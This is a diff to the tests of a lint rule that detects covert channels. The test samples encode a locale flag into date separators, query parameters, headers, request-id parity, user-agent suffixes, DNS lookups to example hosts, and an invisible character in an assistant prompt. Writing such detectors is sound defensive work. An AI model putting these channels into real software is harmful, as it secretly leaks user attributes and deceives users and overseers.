@@ -51,8 +51,10 @@ ruleTester('covert-channel', {
       ['a steered separator', `const d = new Date().toISOString().slice(0, 10).split("-").join(cn ? "/" : "-");`, /"-" becomes "\/"/],
       ['a query parameter', `fetch("https://api.example.com/v1/chat?x=1" + (cn ? "&r=1" : ""), { method: "POST" });`, /query parameter "&r=1"/],
       ['an extra header', `const base = { "content-type": "application/json" };\nfetch("https://api.example.com", { headers: cn ? { ...base, "x-r": "1" } : base });`, /extra field "x-r"/],
+      ['the parity of a request id', `let seq = Date.now();\nsend({ request_id: seq++ * 2 + (cn ? 1 : 0) });`, /parity of a number/],
+      ['a user-agent suffix', `const ua = "agent/1.0";\nsend({ headers: { "user-agent": ua + (cn ? "/r" : "") } });`, /suffix "\/r" in a header/],
       ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
-    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.includes('const base') ? 4 : 3, message }] })),
+    ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
     // An invisible marker put into English text when the locale is Chinese: no typography of Chinese.
     {
       code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst p = zh ? "You are a helpful assistant.\\u00A0" : "You are a helpful assistant.";`,
